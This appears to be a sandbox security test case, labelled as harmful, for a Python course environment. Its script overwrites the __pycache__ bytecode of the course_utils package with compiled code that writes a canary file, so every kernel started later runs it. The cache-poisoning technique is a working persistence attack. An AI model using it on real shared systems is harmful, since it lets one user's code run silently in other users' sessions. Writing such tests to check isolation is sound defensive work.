# where: first
# kind: harms
# does: Byte code in __pycache__ is replaced by the student's, for every kernel that is started later.
import importlib.util
import marshal
import pathlib

import course_utils

for source in pathlib.Path(course_utils.__file__).parent.rglob("*.py"):
    cached = pathlib.Path(importlib.util.cache_from_source(str(source)))
    try:
        head = cached.read_bytes()[:16] if cached.exists() else b"\x00" * 16
        cached.parent.mkdir(exist_ok=True)
        cached.write_bytes(head + marshal.dumps(compile("open('@HOME@/owned', 'w')", str(source), "exec")))
    except Exception as error:
        print(error)
        break
